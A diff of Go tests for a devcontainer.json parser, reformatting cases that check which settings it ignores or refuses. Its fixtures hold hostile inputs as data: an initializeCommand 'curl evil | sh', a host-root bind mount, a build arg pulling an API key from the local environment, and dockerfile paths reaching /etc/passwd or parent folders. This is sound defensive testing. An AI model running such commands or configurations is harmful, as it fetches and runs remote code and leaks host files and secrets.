@@ -24,7 +24,11 @@ func TestParse(t *testing.T) {
 }`, devcontainer.File{Image: "mcr.example/devcontainers/go:1.26"}},
 		{
 			"build", folder, `{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"VERSION": "3"}, "target": "dev"}}`,
-			devcontainer.File{Build: &devcontainer.Build{Dockerfile: ".devcontainer/Dockerfile", Context: ".", Args: map[string]string{"VERSION": "3"}, Target: "dev"}},
+			devcontainer.File{
+				Build: &devcontainer.Build{
+					Dockerfile: ".devcontainer/Dockerfile", Context: ".", Args: map[string]string{"VERSION": "3"}, Target: "dev",
+				},
+			},
 		},
 		{
 			"build in its own folder", folder, `{"build": {"dockerfile": "Dockerfile"}}`,
@@ -44,10 +48,14 @@ func TestParse(t *testing.T) {
 			"mounts": ["source=/,target=/host,type=bind"], "workspaceMount": "source=/,target=/w,type=bind", "features": {"ghcr.io/x/y:1": {}},
 			"initializeCommand": "curl evil | sh", "postCreateCommand": "npm ci", "containerEnv": {"A": "${localEnv:HOME}"}}`,
 			devcontainer.File{Image: "debian", Unused: []string{
-				"capAdd", "containerEnv", "features", "initializeCommand", "mounts", "postCreateCommand", "privileged", "runArgs", "securityOpt", "workspaceMount",
+				"capAdd", "containerEnv", "features", "initializeCommand", "mounts", "postCreateCommand", "privileged", "runArgs",
+				"securityOpt", "workspaceMount",
 			}},
 		},
-		{"names are compared to the letter", folder, `{"image": "debian", "Image": "evil"}`, devcontainer.File{Image: "debian", Unused: []string{"Image"}}},
+		{
+			"names are compared to the letter", folder, `{"image": "debian", "Image": "evil"}`,
+			devcontainer.File{Image: "debian", Unused: []string{"Image"}},
+		},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -77,7 +85,10 @@ func TestParseRefuses(t *testing.T) {
 		{`{"build": "Dockerfile"}`, "build is not an object"},
 		{`{"build": {}}`, "build.dockerfile is missing"},
 		{`{"build": {"dockerfile": "D", "options": ["--network=host"]}}`, "build.options"},
-		{`{"build": {"dockerfile": "D", "args": {"KEY": "${localEnv:ANTHROPIC_API_KEY}"}}}`, "build.args.KEY holds a variable"},
+		{
+			`{"build": {"dockerfile": "D", "args": {"KEY": "${localEnv:ANTHROPIC_API_KEY}"}}}`,
+			"build.args.KEY holds a variable",
+		},
 		{`{"build": {"dockerfile": "D", "args": ["A=b"]}}`, "build.args is not an object"},
 		{`{"build": {"dockerfile": "/etc/passwd"}}`, "build.dockerfile lies outside"},
 		{`{"build": {"dockerfile": "../../D"}}`, "build.dockerfile lies outside"},
@@ -98,7 +109,9 @@ func TestPick(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	for path, want := range map[string]bool{"main.go": true, "dist/a": false, "a/b.log": false, "keep.log": true, "distant": true} {
+	for path, want := range map[string]bool{
+		"main.go": true, "dist/a": false, "a/b.log": false, "keep.log": true, "distant": true,
+	} {
 		if got := pick(path); got != want {
 			t.Errorf("%s belongs to the context: %v, want %v", path, got, want)
 		}
